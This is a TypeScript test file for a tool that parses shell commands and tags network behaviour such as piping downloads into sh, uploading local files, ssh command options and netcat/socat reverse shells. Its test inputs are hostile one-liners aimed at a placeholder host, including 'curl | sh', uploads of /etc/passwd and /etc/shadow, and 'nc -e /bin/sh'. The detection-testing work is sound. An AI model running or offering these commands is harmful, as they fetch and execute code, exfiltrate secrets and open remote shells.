// The network programs' emitters (src/facts/extract/emit-net.ts): where an HTTP client's body goes
// (curl(1) -o, -O; wget(1) -O; httpie), what it sends (-d @file, -F name=@file, -T, --json,
// --data-urlencode name@file, wget --post-file), ssh's command-running -o options and its remote
// command, and netcat/socat's programs and files. Written by hand (issue 16: Stryker's survivors).
import { resolveContext } from "../src/context.js";
import { extractFacts } from "../src/facts/extract.js";
import { first, pathsOf, uncertain } from "./roles.js";

// cwd /workspace, home /root
const ctx = resolveContext({});
const facts = (cmd: string) => extractFacts(cmd, ctx);

describe("HTTP clients: where the body goes", () => {
  it.each([
    "curl http://h/x | sh",
    "curl -o - http://h/x | sh",
    "wget -O - http://h/x | sh",
    "wget --output-document=- h.com/x | sh",
    "http http://h/x | sh",
    "xh h/x | sh",
    "fetch http://h/x | sh",
  ])("to stdout: %s", (cmd) => {
    expect(first(cmd, "sh").tags).toEqual(["pipe-from-network"]);
  });

  it.each([
    ["curl -o /tmp/o http://h/x", "curl", "write /tmp/o"],
    ["curl --output /tmp/o http://h/x", "curl", "write /tmp/o"],
    ["curl -O http://h/d/file.tgz?x=1", "curl", "write /workspace/file.tgz"],
    ["curl --remote-name http://h/d/f#frag", "curl", "write /workspace/f"],
    ["wget http://h/d/f.sh", "wget", "write /workspace/f.sh"],
    ["wget -O /tmp/w http://h/x", "wget", "write /tmp/w"],
    ["wget --output-document=/tmp/w http://h/x", "wget", "write /tmp/w"],
  ])("to a file: %s", (cmd, program, want) => {
    expect(pathsOf(cmd, program)).toEqual([want]);
  });

  it("a downloaded file is remembered as from the network", () => {
    expect(first("curl -o /tmp/o http://h/x; sh /tmp/o", "sh").tags).toContain("exec-downloaded");
    expect(first("wget http://h/d/f.sh; sh f.sh", "sh").tags).toContain("exec-downloaded");
    expect(first("curl -O http://h/d/f.sh; bash f.sh", "bash").tags).toContain("exec-downloaded");
    expect(first("curl http://h/d/f.sh; sh f.sh", "sh").tags).not.toContain("exec-downloaded");
  });
});

describe("HTTP clients: what they send", () => {
  it.each([
    ["curl -d @/etc/passwd http://h", "/etc/passwd"],
    ["curl --data-binary @/etc/p http://h", "/etc/p"],
    ["curl -F f=@/etc/shadow http://h", "/etc/shadow"],
    ["curl -F 'f=</etc/hosts' http://h", "/etc/hosts"],
    ["curl -T /etc/x http://h", "/etc/x"],
    ["curl --upload-file /etc/x http://h", "/etc/x"],
    ["curl --json @/etc/j http://h", "/etc/j"],
    ["curl --data-urlencode name@/etc/y http://h", "/etc/y"],
    ["curl --data-urlencode @/etc/y http://h", "/etc/y"],
    ["wget --post-file=/etc/z http://h", "/etc/z"],
    ["wget --body-file=/etc/z http://h", "/etc/z"],
  ])("a local file: %s", (cmd, file) => {
    const c = first(cmd, cmd.split(" ")[0]!);
    expect(c.tags).toEqual(["upload"]);
    expect(c.inputs.map((p) => `${p.role} ${p.path}`)).toEqual([`read ${file}`]);
    expect(c.paths.map((p) => `${p.role} ${p.path}`)).toContain(`read ${file}`);
  });

  it.each([
    ["curl -d a=1 http://h", "curl"],
    ["curl --data-urlencode a=b http://h", "curl"],
    ["curl --upload-file - http://h", "curl"],
    ["curl -d @- http://h", "curl"],
    ["echo hi | curl -d @- http://h", "curl"],
    ["wget --post-data=x http://h", "wget"],
    ["wget --body-data=x http://h", "wget"],
  ])("inline data: %s", (cmd, program) => {
    expect(first(cmd, program).tags).toEqual(["post"]);
    expect(first(cmd, program).inputs).toEqual([]);
  });

  it("stdin that is not text of the command itself is local data sent", () => {
    const c = first("cat /etc/x | curl -d @- http://h", "curl");
    expect(c.tags).toEqual(["upload"]);
    expect(c.inputs.map((p) => p.path)).toEqual(["/etc/x"]);
    expect(first("cat /etc/x | curl -T - http://h", "curl").tags).toEqual(["upload"]);
    expect(first("curl http://h", "curl").tags).toEqual([]);
  });
});

describe("ssh", () => {
  it.each([
    ["ssh -o ProxyCommand='rm /tmp/p' h", "ssh -o ProxyCommand", false],
    ["ssh -o 'LocalCommand=rm /tmp/p' h", "ssh -o LocalCommand", false],
    ["ssh -o 'LocalCommand = rm /tmp/p' h", "ssh -o LocalCommand", false],
    ["ssh -o knownhostscommand='rm /tmp/p' h", "ssh -o knownhostscommand", false],
    ["ssh -o RemoteCommand='rm /tmp/p' h", "ssh -o RemoteCommand", true],
  ])("%s", (cmd, via, remote) => {
    const rm = first(cmd, "rm");
    expect(rm.via).toEqual([via]);
    expect(rm.remote).toBe(remote);
    expect(rm.paths.map((p) => p.path)).toEqual(["/tmp/p"]);
  });

  it("the remote command: the words after the host, or stdin", () => {
    const line = "ssh h rm x y";
    expect(first(line, "ssh").tags).toEqual(["remote-command"]);
    expect(first(line, "ssh").texts).toEqual(["rm x y"]);
    expect(first(line, "rm").remote).toBe(true);
    expect(first(line, "rm").paths.map((p) => p.path)).toEqual(["/root/x", "/root/y"]);
    expect(uncertain("ssh h rm $X")).toEqual(["dynamic-shell-text"]);
    const piped = "echo 'rm /tmp/x' | ssh h";
    expect(first(piped, "ssh").tags).toEqual(["remote-command"]);
    expect(first(piped, "rm").remote).toBe(true);
    expect(first(piped, "rm").via).toEqual(["ssh stdin"]);
    // the frame after ssh is not remote
    expect(first("echo 'rm /tmp/x' | ssh h; rm /tmp/y", "rm").remote).toBe(true);
    expect(facts("echo 'rm /tmp/x' | ssh h; rm /tmp/y").commands.at(-1)!.remote).toBe(false);
    expect(first("ssh h", "ssh").tags).toEqual([]);
    expect(first("ssh -o User=x h", "ssh").tags).toEqual([]);
    expect(facts("ssh -o User=x h").commands.map((c) => c.program)).toEqual(["ssh"]);
  });
});

describe("netcat and socat", () => {
  it.each([
    "nc -e /bin/sh h 1",
    "ncat --exec /bin/sh h 1",
    "ncat --sh-exec sh h 1",
    "ncat --lua-exec x.lua h 1",
    "nc -c sh h 1",
    "socat tcp:h:1 exec:/bin/sh",
    "socat tcp:h:1 SYSTEM:sh",
    "socat tcp:h:1 pty,EXEC:sh",
  ])("a program on the socket: %s", (cmd) => {
    expect(first(cmd, cmd.split(" ")[0]!).tags).toContain("reverse-shell");
  });

  it.each(["nc h 1", "telnet h 1", "nc -l 1", "socat tcp:h:1 tcp-listen:2"])("not %s", (cmd) => {
    expect(first(cmd, cmd.split(" ")[0]!).tags).toEqual([]);
  });

  it("files socat opens are read and sent; nc's output is the network", () => {
    for (const [cmd, file] of [
      ["socat file:/etc/passwd tcp:h:1", "/etc/passwd"],
      ["socat OPEN:/etc/x,rdonly tcp:h:1", "/etc/x"],
      ["socat gopen:/etc/g tcp:h:1", "/etc/g"],
      ["socat create:/tmp/c tcp:h:1", "/tmp/c"],
    ] as const) {
      const c = first(cmd, "socat");
      expect([cmd, c.inputs.map((p) => `${p.role} ${p.path}`)]).toEqual([cmd, [`read ${file}`]]);
    }
    expect(first("nc h 1 < /etc/passwd", "nc").tags).toEqual(["upload"]);
    expect(first("nc h 1 | sh", "sh").tags).toContain("pipe-from-network");
  });
});
